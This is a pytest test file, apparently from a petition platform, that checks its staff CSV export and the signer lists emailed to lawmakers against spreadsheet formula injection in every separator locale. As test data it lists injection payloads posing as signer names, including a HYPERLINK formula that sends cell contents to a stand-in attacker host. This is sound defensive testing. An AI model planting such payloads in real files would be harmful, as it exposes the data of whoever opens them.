"""No CSV we write holds a formula, however a spreadsheet splits its lines.

Excel opens a CSV file with the locale's list separator (a semicolon in much
of Europe); LibreOffice's and Excel's import dialogs offer comma, semicolon,
tab, space and others. `Ann;=1+1` is one harmless cell split on commas, and a
formula split on semicolons. Both the staff export and the signer list sent
to lawmakers are checked, as files, the way each locale would split them.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from undersigned.privacy.csvsafe import FORMULA_STARTS, escape_cell
from undersigned.signatures.actions import SignerDetails, confirm, sign
from undersigned.signatures.links import confirm_token

from .conftest import run_worker
from .delivery_helpers import bulk_confirmed, lawmaker, local_campaign, places, smtp_server

smtp = smtp_server  # the fixture

# What spreadsheets split a line on, in some locale or import dialog.
SEPARATORS = [",", ";", "\t", " ", "|", "\n", "\r"]
# A cell a spreadsheet would run: a formula's first character, after spaces or quotes.
RUNS = re.compile(r'^[\s"]*[=+\-@]')

NAMES = [
    "Ann;=1+1",
    "Ann;+1+1",
    "Ann;-2+3",
    "Ann;@SUM(A1)",
    "Ann\t=1+1",
    "Ann,=1+1",
    "Ann|=1+1",
    "Ann =1+1",
    'Ann;"=1+1',
    'Ann; =HYPERLINK("https://evil.example/?"&A2,"x")',
    "Ann;;=1+1",
    " =1+1",
    "=1+1",
]


def cells_in_any_locale(text: str) -> list[str]:
    """Every cell any of the separators would make of the file's text."""
    return [cell for separator in SEPARATORS for cell in text.split(separator)]


def runnable(text: str) -> list[str]:
    return [cell for cell in cells_in_any_locale(text) if RUNS.match(cell)]


@pytest.mark.parametrize("name", NAMES, ids=repr)
def test_a_formula_after_any_separator_is_quoted(name):
    assert runnable(name)  # the case is real
    assert runnable(escape_cell(name)) == []


@given(st.text(alphabet=st.sampled_from(list("Ann=+-@;,| \t\r\n\"'x1")), max_size=30))
def test_no_text_escapes_into_a_formula_and_nothing_but_quotes_is_added(text):
    escaped = escape_cell(text)
    assert runnable(escaped) == []
    assert not escaped.startswith(FORMULA_STARTS)
    assert escaped.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("value", ["Jane Doe", "Anne-Marie O'Brien", "José Núñez", "02143", "a=b"])
def test_ordinary_names_are_left_alone(value):
    assert escape_cell(value) == value


def signer(campaign, n: int, name: str, place=None):
    details = SignerDetails(
        email=f"tricky{n}@example.org",
        first_name=name,
        last_name="",
        postal_code="02143",
        country="US",
        divisions=((place, "lookup"),) if place else (),
    )
    signature = sign(campaign, details).signature
    confirm(signature.pk, confirm_token(signature.pk, signature.link_version))
    return signature


def assert_safe_file(text: str, names: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    listed = {row[1] for row in rows}
    for name in names:  # each name is there, but for the quotes
        assert any(cell.replace("'", "") == name.replace("'", "") for cell in listed), name
    assert runnable(text) == []


@pytest.mark.django_db
def test_the_staff_export_holds_no_formula_in_any_locale(staff_client, campaign):
    signatures = [signer(campaign, n, name) for n, name in enumerate(NAMES)]
    response = staff_client.post(
        reverse("admin:signatures_signature_changelist"),
        {"action": "export_csv", "_selected_action": [str(s.pk) for s in signatures]},
    )
    text = b"".join(response.streaming_content).decode()
    assert_safe_file(text, [name.strip() for name in NAMES])


@pytest.mark.django_db
def test_the_list_sent_to_lawmakers_holds_no_formula_in_any_locale(smtp):
    somerville, _ = places()
    lawmaker(somerville, "Mayor Fictional", "mayor", email="mayor@somerville.example.org")
    campaign = local_campaign()
    for n, name in enumerate(NAMES):
        signer(campaign, n, name, somerville)
    bulk_confirmed(campaign, somerville, 100 - len(NAMES))
    run_worker()
    (letter,) = smtp.to("mayor@somerville.example.org")
    (attachment,) = [p for p in letter.iter_attachments() if p.get_filename().endswith(".csv")]
    text = attachment.get_payload(decode=True).decode()
    assert_safe_file(text, [name.strip() for name in NAMES])
